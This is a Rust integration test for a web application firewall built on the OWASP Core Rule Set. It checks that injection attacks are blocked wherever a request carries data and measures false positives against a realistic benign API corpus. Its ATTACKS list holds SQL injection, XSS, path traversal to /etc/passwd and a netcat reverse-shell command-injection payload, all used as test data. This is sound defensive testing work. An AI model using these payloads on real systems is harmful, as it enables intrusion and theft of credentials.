//! The real OWASP CRS from Debian's `modsecurity-crs` package (3.3.x), installed by
//! `scripts/modsecurity-crs.sh`: it loads with no error, blocks the common attack classes in
//! every place a request carries data, and lets a corpus of realistic API requests through.

use portcullis_crs::{CrsRules, CrsVerdict, LoadOptions, Transaction};
use std::path::Path;
use std::sync::OnceLock;

const CRS: &str = "/usr/share/modsecurity-crs";

fn rules() -> &'static CrsRules {
    static RULES: OnceLock<CrsRules> = OnceLock::new();
    RULES.get_or_init(|| {
        install();
        match CrsRules::load(Path::new(CRS), 1, 5) {
            Ok(r) => r,
            Err(errors) => {
                let list: Vec<String> = errors.iter().map(ToString::to_string).collect();
                panic!("the Debian CRS did not load:\n{}", list.join("\n"));
            }
        }
    })
}

/// Runs the set-up script once; a failure fails the test (in CI and everywhere else).
fn install() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/modsecurity-crs.sh");
        let status = std::process::Command::new("bash").arg(&script).status().expect("run scripts/modsecurity-crs.sh");
        assert!(status.success(), "scripts/modsecurity-crs.sh failed: {status}");
    });
}

struct Req {
    method: &'static str,
    uri: String,
    headers: Vec<(String, Vec<u8>)>,
    body: Option<Vec<u8>>,
}

impl Req {
    fn get(uri: impl Into<String>) -> Req {
        Req { method: "GET", uri: uri.into(), headers: base_headers(), body: None }
    }

    fn post(uri: &str, content_type: &str, body: impl Into<Vec<u8>>) -> Req {
        let body = body.into();
        let mut headers = base_headers();
        headers.push(("Content-Type".into(), content_type.as_bytes().to_vec()));
        headers.push(("Content-Length".into(), body.len().to_string().into_bytes()));
        Req { method: "POST", uri: uri.into(), headers, body: Some(body) }
    }

    fn cookie(mut self, c: &str) -> Req {
        self.headers.push(("Cookie".into(), c.as_bytes().to_vec()));
        self
    }

    fn eval(&self, rules: &CrsRules) -> CrsVerdict {
        let headers: Vec<(&str, &[u8])> = self.headers.iter().map(|(n, v)| (n.as_str(), v.as_slice())).collect();
        let tx = Transaction {
            method: self.method,
            uri: &self.uri,
            protocol: "HTTP/1.1",
            client_ip: "192.0.2.10".parse().expect("ip"),
            headers: &headers,
            body: self.body.as_deref(),
        };
        rules.evaluate(&tx)
    }
}

fn base_headers() -> Vec<(String, Vec<u8>)> {
    vec![
        ("Host".into(), b"api.example.com".to_vec()),
        ("User-Agent".into(), b"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0".to_vec()),
        ("Accept".into(), b"application/json".to_vec()),
    ]
}

fn enc(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn json_str(s: &str) -> String {
    serde_json_escape(s)
}

fn serde_json_escape(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

const ATTACKS: &[(&str, &str)] = &[
    ("sqli", "1' OR '1'='1"),
    ("sqli", "1' UNION SELECT username, password FROM users--"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(document.cookie)>"),
    ("traversal", "../../etc/passwd"),
    ("traversal", "..%2f..%2f..%2fetc%2fpasswd"),
    ("shell", ";cat /etc/passwd"),
    ("shell", "| nc -e /bin/sh 10.0.0.1 4444"),
];

#[test]
fn loads_every_paranoia_level_without_error() {
    install();
    for pl in 1..=4 {
        let r =
            CrsRules::load(Path::new(CRS), pl, 5).unwrap_or_else(|e| panic!("paranoia level {pl}: {:?}", e.first()));
        assert!(r.rule_count() > 400, "only {} rules at PL{pl}", r.rule_count());
    }
}

#[test]
fn blocks_attacks_in_query_json_form_and_cookie() {
    let rules = rules();
    let mut missed = Vec::new();
    for (family, payload) in ATTACKS {
        let cases = [
            ("query", Req::get(format!("/api/search?q={}&page=2&sort=desc", enc(payload)))),
            (
                "json",
                Req::post(
                    "/api/comments",
                    "application/json",
                    format!("{{\"author\":\"sam\",\"text\":{}}}", json_str(payload)),
                ),
            ),
            (
                "form",
                Req::post(
                    "/api/comments",
                    "application/x-www-form-urlencoded",
                    format!("author=sam&text={}", enc(payload)),
                ),
            ),
            ("cookie", Req::get("/api/profile").cookie(&format!("session=abc123; pref={}", enc(payload)))),
        ];
        for (place, req) in cases {
            let v = req.eval(rules);
            if !v.blocked {
                missed.push(format!("{family} in {place}: {payload:?} scored {} ({:?})", v.score, v.matches));
            }
        }
    }
    assert!(missed.is_empty(), "not blocked:\n{}", missed.join("\n"));
}

#[test]
fn a_blocked_request_names_its_rules_with_severity() {
    let v = Req::get("/api/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").eval(rules());
    assert!(v.blocked);
    assert!(v.score >= 5);
    assert!(v.matches.iter().any(|m| m.rule_id == 941100 && m.severity == 5), "{:?}", v.matches);
    assert!(v.matches.iter().all(|m| !m.message.contains("script")), "messages hold no request data");
}

#[test]
fn the_threshold_and_disabled_rules_change_the_verdict() {
    install();
    let req = Req::get("/api/search?q=1%27%20OR%20%271%27%3D%271");
    let strict = rules();
    assert!(req.eval(strict).blocked);
    let v = req.eval(strict);
    let lenient = CrsRules::load(Path::new(CRS), 1, v.score + 1).expect("loads");
    let lv = req.eval(&lenient);
    assert_eq!(lv.score, v.score);
    assert!(!lv.blocked, "a score below the threshold passes");
    let ids: Vec<u32> = v.matches.iter().map(|m| m.rule_id).collect();
    let without = CrsRules::load_with(
        Path::new(CRS),
        &LoadOptions { paranoia_level: 1, inbound_threshold: 5, disabled_rules: &ids },
    )
    .expect("loads");
    let wv = req.eval(&without);
    assert!(wv.matches.iter().all(|m| !ids.contains(&m.rule_id)), "{:?}", wv.matches);
}

/// Realistic API traffic: names with apostrophes, prose that says select/union/drop/script,
/// URLs, base64, JWTs, dates, Unicode.
fn benign_corpus() -> Vec<Req> {
    let names = [
        "O'Brien",
        "D'Angelo",
        "Zoë Ångström",
        "José Núñez",
        "李小龙",
        "Анна Каренина",
        "Jean-Luc Picard",
        "Mary-Kate O'Neil",
        "Ólafur Arnalds",
        "Nguyễn Văn A",
    ];
    let texts = [
        "Please select the union plan that fits you best",
        "I will drop by the office tomorrow at 10",
        "Union members voted to select a new representative",
        "Can you update the shipping address for order 1234?",
        "Where can I find the script for the school play?",
        "Delete my account, please; I no longer need it",
        "The table in the lobby is broken - please replace it",
        "We had 5 > 3 apples and 2 < 4 pears.",
        "Meeting notes: drop the old roadmap and select new goals for Q3",
        "Thanks! Great service :) will order again",
        "Is it possible to insert a note into the delivery?",
        "My email is jane.doe+news@example.org, call me at +1 (555) 010-9999",
        "Order from the east wing, not the west",
        "Ça marche très bien, merci beaucoup !",
        "¿Dónde está la biblioteca? Necesito un libro.",
        "Die Größe passt nicht, bitte umtauschen.",
        "日本語のテキストも大丈夫ですか",
        "Price: 19.99 EUR (incl. 20% VAT)",
        "Ticket #4521: login page slow since Monday",
        "She said \"hello\" and left",
    ];
    let urls = [
        "https://example.com/path/to/page?ref=newsletter&utm_source=mail",
        "https://cdn.example.org/images/photo_2024-05-01.jpg",
        "http://localhost:8080/callback",
        "https://docs.example.com/en/latest/guide.html#section-2",
    ];
    let tokens = [
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "dGhpcyBpcyBhIHRlc3Qgc3RyaW5nIGZvciBiYXNlNjQ=",
        "SGVsbG8gV29ybGQhIFRoaXMgaXMgYmFzZTY0Lg==",
        "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
        "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3",
    ];
    let dates = ["2024-05-01", "2024-05-01T12:30:00Z", "2023-12-31T23:59:59+01:00", "01/02/2024", "1714566600"];
    let mut out = Vec::new();
    for (i, name) in names.iter().enumerate() {
        out.push(Req::get(format!("/api/users?name={}&limit=20&offset={}", enc(name), i * 20)));
        out.push(Req::post(
            "/api/users",
            "application/json",
            format!("{{\"name\":{},\"age\":{},\"active\":true}}", json_str(name), 20 + i),
        ));
        out.push(Req::post(
            "/api/users",
            "application/x-www-form-urlencoded",
            format!("name={}&city=Dublin", enc(name)),
        ));
    }
    for (i, t) in texts.iter().enumerate() {
        out.push(Req::get(format!("/api/search?q={}&page={}", enc(t), i)));
        out.push(Req::post(
            "/api/comments",
            "application/json",
            format!("{{\"postId\":{i},\"body\":{},\"tags\":[\"support\",\"feedback\"]}}", json_str(t)),
        ));
        out.push(Req::post(
            "/api/feedback",
            "application/x-www-form-urlencoded",
            format!("subject=Hello&message={}", enc(t)),
        ));
        out.push(Req::post(
            "/api/notes",
            "application/json",
            format!(
                "{{\"note\":{{\"title\":\"Note {i}\",\"text\":{},\"created\":\"{}\"}}}}",
                json_str(t),
                dates[i % dates.len()]
            ),
        ));
    }
    for u in urls {
        out.push(Req::get(format!("/api/links?url={}", enc(u))));
        out.push(Req::post(
            "/api/webhooks",
            "application/json",
            format!("{{\"target\":{},\"events\":[\"order.created\"]}}", json_str(u)),
        ));
        out.push(Req::post(
            "/api/bookmarks",
            "application/x-www-form-urlencoded",
            format!("url={}&title=Docs", enc(u)),
        ));
    }
    for t in tokens {
        out.push(Req::get(format!("/api/verify?token={}", enc(t))));
        out.push(Req::post("/api/session", "application/json", format!("{{\"token\":{}}}", json_str(t))));
        let mut r = Req::get("/api/me");
        r.headers.push(("Authorization".into(), format!("Bearer {t}").into_bytes()));
        out.push(r);
    }
    for (i, d) in dates.iter().enumerate() {
        out.push(Req::get(format!("/api/reports?from={}&to={}&format=csv", enc(d), enc(dates[(i + 1) % dates.len()]))));
        out.push(Req::post(
            "/api/events",
            "application/json",
            format!("{{\"at\":{},\"kind\":\"login\",\"ok\":true}}", json_str(d)),
        ));
    }
    for i in 0..40 {
        out.push(
            Req::get(format!("/api/orders/{}/items?expand=product&fields=id,name,price", 1000 + i))
                .cookie(&format!("session=s{i:04}abcdef; theme=dark; lang=en-GB")),
        );
        out.push(Req::get(format!(
            "/api/products?category=books&min_price={}&max_price={}&in_stock=true",
            i,
            i * 10 + 5
        )));
        out.push(Req::post(
            "/api/cart",
            "application/json",
            format!("{{\"items\":[{{\"sku\":\"SKU-{i:05}\",\"qty\":{}}},{{\"sku\":\"SKU-{:05}\",\"qty\":1}}],\"coupon\":null,\"note\":{}}}", i % 5 + 1, i + 7, json_str(texts[i % texts.len()])),
        ));
    }
    out
}

#[test]
fn benign_requests_pass_and_the_false_positive_rate_is_published() {
    let rules = rules();
    let corpus = benign_corpus();
    assert!(corpus.len() >= 200, "{} requests", corpus.len());
    let mut blocked = Vec::new();
    let mut flagged = 0usize;
    for r in &corpus {
        let v = r.eval(rules);
        if !v.matches.is_empty() {
            flagged += 1;
        }
        if v.blocked {
            blocked.push(format!(
                "{} {} {:?}: {:?}",
                r.method,
                r.uri,
                r.body.as_deref().map(String::from_utf8_lossy),
                v.matches
            ));
        }
    }
    let rate = blocked.len() as f64 / corpus.len() as f64;
    println!(
        "CRS PL1 benign corpus: {} requests, {} blocked (false-positive rate {:.2}%), {} with any rule match",
        corpus.len(),
        blocked.len(),
        rate * 100.0,
        flagged
    );
    // Stock CRS 3.3 at PL1 flags prose holding "union ... select" (942190: 6 of 267 here); the rate is
    // published and held under this ceiling so that a regression shows.
    assert!(rate <= 0.03, "false-positive rate {:.2}%:\n{}", rate * 100.0, blocked.join("\n"));
}
